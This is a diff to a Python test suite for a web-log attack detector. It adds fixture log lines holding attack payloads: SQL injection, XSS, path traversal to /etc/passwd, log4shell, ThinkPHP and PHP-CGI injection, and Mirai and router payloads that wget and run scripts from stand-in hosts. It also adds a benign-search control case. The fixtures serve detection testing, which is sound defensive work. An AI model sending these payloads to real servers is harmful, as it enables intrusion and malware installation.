@@ -147,6 +147,34 @@ ATTACKS = [
      range(0, 600, 100)], "203.0.113.72", {"auth_failures"}),
     ("a fake Googlebot that probes (apache-fakegooglebot)", [line("203.0.113.73", "GET /wp-login.php HTTP/1.1", 404,
      agent=GOOGLEBOT)], "203.0.113.73", {"fake_crawler", "cms_probe"}),
+    # --- attack payloads in the query string (CRS 930-944, CrowdSec http-sqli/xss/path-traversal-probing): one
+    # request suffices, on a page the site serves (the probe families would not see it)
+    ("SQL injection: union select on a page of the site", [line("203.0.113.160",
+     "GET /posts/?id=1%27%20UNION%20ALL%20SELECT%20NULL,NULL,CONCAT(0x71,user())--%20- HTTP/1.1")], "203.0.113.160",
+     {"payload"}),
+    ("SQL injection: a tautology", [line("203.0.113.161", "GET /posts/hello-world/?id=1'+or+'1'='1 HTTP/1.1")],
+     "203.0.113.161", {"payload"}),
+    ("XSS in the search box", [line("203.0.113.162", "GET /search/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E "
+     "HTTP/1.1", referrer=f"{SITE}/")], "203.0.113.162", {"payload"}),
+    ("path traversal in a parameter", [line("203.0.113.163", "GET /download/?file=../../../../etc/passwd HTTP/1.1")],
+     "203.0.113.163", {"payload"}),
+    ("log4shell in the query string", [line("203.0.113.164",
+     "GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%3A1389%2Fa%7D HTTP/1.1")], "203.0.113.164", {"payload"}),
+    ("ThinkPHP invokefunction", [line("203.0.113.165", r"GET /index.php?s=/Index/\\think\\app/invokefunction&"
+     "function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21 HTTP/1.1", 404)], "203.0.113.165",
+     {"payload"}),
+    ("Mirai: a shell command to a bare /shell", [line("203.0.113.166",
+     "GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/bins.sh;chmod+777+bins.sh;sh+bins.sh HTTP/1.1", 404,
+     agent="Hello, world")], "203.0.113.166", {"payload", "cms_probe"}),
+    ("PHP CGI argument injection", [line("203.0.113.167", "POST /?-d+allow_url_include%3d1+-d+auto_prepend_file%3d"
+     "php://input HTTP/1.1", 200)], "203.0.113.167", {"payload"}),
+    ("an Xdebug session probe", [line("203.0.113.168", "GET /?XDEBUG_SESSION_START=phpstorm HTTP/1.1")],
+     "203.0.113.168", {"payload"}),
+    ("a command in a cmd parameter", [line("203.0.113.169", "GET /ping/?cmd=127.0.0.1;cat%20/etc/passwd HTTP/1.1")],
+     "203.0.113.169", {"payload"}),
+    ("an IoT router exploit path (no extension)", [line("203.0.113.170",
+     "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http://198.51.100.7"
+     "/t%7Csh%60) HTTP/1.1", 404)], "203.0.113.170", {"cms_probe", "payload"}),
     ("IPv6 rotation inside one /64 is one client", [
         line(f"2001:db8:5:6::{i:x}", f"GET /p{i}/ HTTP/1.1", 404, agent=f"{FIREFOX[:-5]}{120 + i}.0", second=i)
         for i in range(1, 7)
@@ -285,6 +313,23 @@ def _typing_a_url():
     return [line("203.0.114.9", "GET /posts/hello-world/ HTTP/2.0", agent=SAFARI)]
 
 
+def _searches_with_quotes():
+    """A reader searching the blog with apostrophes, quotes, SQL and shell words, URLs and paths in parameters."""
+    ip = "203.0.114.13"
+    queries = ["o%27brien%27s+pub", "select+a+union+rep", "%22best+pizza%22+or+pasta", "it%27s+5+o%27clock",
+               "rock+%26+roll", "1%2B1%3D2", "learn+javascript:+the+good+parts", "cd+player+rm+50", "%3C3+love",
+               "Tom+%26+Jerry%3B+season+1", "don%27t+or+won%27t", "a+%3C+b+and+c+%3E+d", "C%3A%5CUsers%5Cme",
+               "sleep+apnea+(adults)", "drop+shipping;+update+2024", "%27or+something%27"]  # fmt: skip
+    out = reader(ip, FIREFOX, 100)
+    out += [line(ip, f"GET /search/?q={q} HTTP/2.0", referrer=f"{SITE}/", agent=FIREFOX, second=200 + i)
+            for i, q in enumerate(queries)]  # fmt: skip
+    out += [line(ip, "GET /out/?url=https%3A%2F%2Fexample.com%2Fa%3Fb%3D1&utm_source=blog HTTP/2.0",
+                 referrer=f"{SITE}/posts/second/", agent=FIREFOX, second=300),
+            line(ip, "GET /posts/second/?ref=../about&page=2 HTTP/2.0", referrer=f"{SITE}/", agent=FIREFOX,
+                 second=310)]  # fmt: skip
+    return out
+
+
 BENIGN = [
     ("uptime monitor", _monitor, "203.0.114.1"),
     ("feed reader", _feed_reader, "203.0.114.2"),
@@ -299,6 +344,7 @@ BENIGN = [
     ("a comment on a page read an hour earlier", _comment_after_an_hour, "203.0.114.10"),
     ("a login whose form was loaded in the previous window", _login_across_the_hour, "203.0.114.11"),
     ("a carrier NAT: typos between successful logins", _carrier_nat_logins, "203.0.114.12"),
+    ("searches with quotes, SQL and shell words, URLs in parameters", _searches_with_quotes, "203.0.114.13"),
 ]
 
 
